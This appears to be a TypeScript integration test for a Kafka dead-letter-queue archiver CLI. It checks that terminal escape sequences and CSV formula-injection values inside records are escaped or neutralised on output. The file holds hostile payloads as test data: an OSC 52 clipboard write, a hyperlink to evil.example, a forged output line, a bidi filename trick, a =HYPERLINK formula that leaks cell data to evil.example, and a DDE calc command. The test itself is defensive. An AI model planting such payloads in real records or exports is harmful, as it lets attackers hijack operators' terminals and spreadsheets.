import { expect } from 'chai';
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { RetryHeader } from '@ricochet/core';
import { openArchiveStore, type ArchiveStore } from '@ricochet/archive';
import { createDlqArchiver, type DlqArchiver } from '@ricochet/dlq-archiver';
import {
  createTestTopics,
  produceRecords,
  runCliCaptured,
  testBrokers,
  testConnection,
  testLogger,
  uniqueName,
  waitFor,
  testMaxWaitMilliseconds,
} from '@ricochet/testing';

/** What a producer can slip into any header, key or value to take over an operator's terminal. */
const payloads = {
  clipboard: '\u001b]52;c;ZWNobyBwd25lZA==\u0007',
  hyperlink: '\u001b]8;;https://evil.example/\u001b\\click me\u001b]8;;\u001b\\',
  title: '\u001b]0;pwned\u0007',
  clearScreen: '\u001b[2J\u001b[H',
  singleByteCsi: '\u009b31m',
  bidi: 'txt.\u202eexe\u2066\u2069\u200f\u061c',
  forgedLine: '\r\u001b[2Kall records replayed OK\nall records replayed OK',
};
const hostile = Object.values(payloads).join(' ');

/** Any character a terminal acts on, other than the line feeds the CLI writes itself. */
const rawControl = /(?!\n)[\p{Cc}\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/u;

function expectNoRawControl(output: string, what: string): void {
  const found = rawControl.exec(output);
  expect(
    found,
    `${what} printed a raw U+${found?.[0].charCodeAt(0).toString(16).padStart(4, '0')}`,
  ).to.equal(null);
  expect(output, `${what} let a record forge a line of its own`).not.to.match(
    /^all records replayed OK/m,
  );
}

/** RFC 4180 cells: enough to read back what csv-stringify wrote, quotes and line breaks included. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let index = 0; index < text.length; index += 1) {
    const char = text.charAt(index);
    if (quoted) {
      if (char === '"' && text.charAt(index + 1) === '"') {
        cell += '"';
        index += 1;
      } else if (char === '"') {
        quoted = false;
      } else {
        cell += char;
      }
    } else if (char === '"') {
      quoted = true;
    } else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\n') {
      rows.push([...row, cell]);
      row = [];
      cell = '';
    } else {
      cell += char;
    }
  }
  return rows;
}

const cli = (args: string[]) => runCliCaptured(args, { KAFKA_BROKERS: testBrokers().join(',') });

describe('hostile text in dead letters (real broker, SQLite archive, the CLI)', function () {
  this.timeout(60_000);
  let store: ArchiveStore;
  let storeUrl: string;
  let folder: string;
  let archiver: DlqArchiver;
  let dlqTopic: string;

  before(async () => {
    dlqTopic = uniqueName('dlq-hostile');
    await createTestTopics([dlqTopic], 1);
    folder = mkdtempSync(join(tmpdir(), 'ricochet-hostile-'));
    storeUrl = `sqlite:${join(folder, 'dlq.db')}`;
    store = await openArchiveStore(storeUrl, { logger: testLogger('archive') });
    archiver = createDlqArchiver({
      ...testConnection(),
      maxWaitMilliseconds: testMaxWaitMilliseconds,
      dlqTopic,
      groupId: uniqueName('archiver'),
      store,
      logger: testLogger('dlq'),
      searchableText: async (value) => value?.toString('utf8') ?? null,
    });
    await archiver.start();
    await produceRecords([
      {
        topic: dlqTopic,
        key: Buffer.from(`key ${hostile}`),
        value: Buffer.from(`value ${hostile}`),
        headers: {
          [RetryHeader.originalTopic]: `orders${payloads.title}${payloads.forgedLine}`,
          [RetryHeader.originalPartition]: '0',
          [RetryHeader.originalOffset]: '7',
          [RetryHeader.retryGroup]: `billing ${hostile}`,
          [RetryHeader.tryCount]: '4',
          [RetryHeader.errorClass]: `TypeError${payloads.clearScreen}${payloads.bidi}`,
          [RetryHeader.errorMessage]: `cannot ship ${hostile}`,
          [RetryHeader.errorStack]: `TypeError: cannot ship\n    at ${hostile}`,
          [RetryHeader.deadLetterReason]: `retries-exhausted${payloads.hyperlink}`,
          [`trace${payloads.clipboard}`]: `header ${hostile}`,
        },
      },
      {
        topic: dlqTopic,
        key: Buffer.from('=HYPERLINK("https://evil.example/?"&A1,"click")'),
        value: Buffer.from("+cmd|' /C calc'!A0"),
        headers: {
          [RetryHeader.originalTopic]: '-orders',
          [RetryHeader.retryGroup]: "@SUM(1+1)*cmd|' /C calc'!A0",
          [RetryHeader.errorClass]: '\tTypeError',
          [RetryHeader.errorMessage]: '\r=1+1',
        },
      },
    ]);
    await waitFor('both records in the archive', async () =>
      (await store.stats({}, 'day')).total === 2 ? true : undefined,
    );
  });

  after(async () => {
    await archiver?.stop();
    await store?.close();
  });

  it('dlq list, show and stats print every control character escaped, in tables and in JSON', async () => {
    const outputs: Array<[string, string[]]> = [
      ['list', ['dlq', 'list', '--store', storeUrl]],
      ['list --json', ['dlq', 'list', '--store', storeUrl, '--json']],
      ['show', ['dlq', 'show', '1', '--store', storeUrl]],
      ['show --json', ['dlq', 'show', '1', '--store', storeUrl, '--json']],
      ['stats', ['dlq', 'stats', '--store', storeUrl]],
      ['stats --json', ['dlq', 'stats', '--store', storeUrl, '--json']],
      ['replay --dry-run', ['dlq', 'replay', '1', '--store', storeUrl, '--dry-run']],
      ['export (JSON Lines)', ['dlq', 'export', '--store', storeUrl]],
    ];
    for (const [what, args] of outputs) {
      const result = await cli(args);
      expect(result.code, `${what}: ${result.stderr}`).to.equal(0);
      expectNoRawControl(result.stdout, what);
      expectNoRawControl(result.stderr, what);
    }
    const shown = (await cli(['dlq', 'show', '1', '--store', storeUrl])).stdout;
    // The attempt stays visible to the operator, spelled out.
    expect(shown)
      .to.contain('\\x1b]52;c;ZWNobyBwd25lZA==\\x07')
      .and.contain('\\x1b]8;;https://evil.example/')
      .and.contain('\\x1b]0;pwned\\x07')
      .and.contain('\\x1b[2J')
      .and.contain('\\x9b31m')
      .and.contain('txt.\\u202eexe\\u2066\\u2069\\u200f\\u061c')
      .and.contain('\\x0d\\x1b[2Kall records replayed OK\\x0aall records replayed OK');
  });

  it('dlq list --json and show --json stay JSON that reads back exactly what the record carried', async () => {
    const listed = JSON.parse(
      (await cli(['dlq', 'list', '--store', storeUrl, '--json'])).stdout,
    ) as {
      records: Array<{ id: number; retryGroup: string; errorMessage: string }>;
    };
    const first = listed.records.find((record) => record.id === 1)!;
    expect(first.retryGroup).to.equal(`billing ${hostile}`);
    expect(first.errorMessage).to.equal(`cannot ship ${hostile}`);
    const shown = JSON.parse(
      (await cli(['dlq', 'show', '1', '--store', storeUrl, '--json'])).stdout,
    ) as { headers: Array<{ name: string }> };
    expect(shown.headers.map((header) => header.name)).to.include(`trace${payloads.clipboard}`);
  });

  it('dlq export --format csv neutralises cells a spreadsheet would run as formulas', async () => {
    const file = join(folder, 'out.csv');
    const result = await cli([
      'dlq',
      'export',
      '--store',
      storeUrl,
      '--format',
      'csv',
      '--output',
      file,
      '--topic=-orders',
    ]);
    expect(result.code, result.stderr).to.equal(0);
    const [header, row] = parseCsv(readFileSync(file, 'utf8')) as string[][];
    const cell = (column: string): string => row![header!.indexOf(column)]!;
    expect(cell('originalTopic')).to.equal("'-orders");
    expect(cell('retryGroup')).to.equal("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(cell('errorClass')).to.equal("'\tTypeError");
    expect(cell('errorMessage')).to.equal("'\r=1+1");
    expect(cell('key')).to.equal('\'=HYPERLINK("https://evil.example/?"&A1,"click")');
    expect(cell('value')).to.equal("'+cmd|' /C calc'!A0");
    for (const value of row!) {
      expect(value, 'no cell may begin a formula').not.to.match(/^[=+\-@\t\r]/);
    }
  });
});
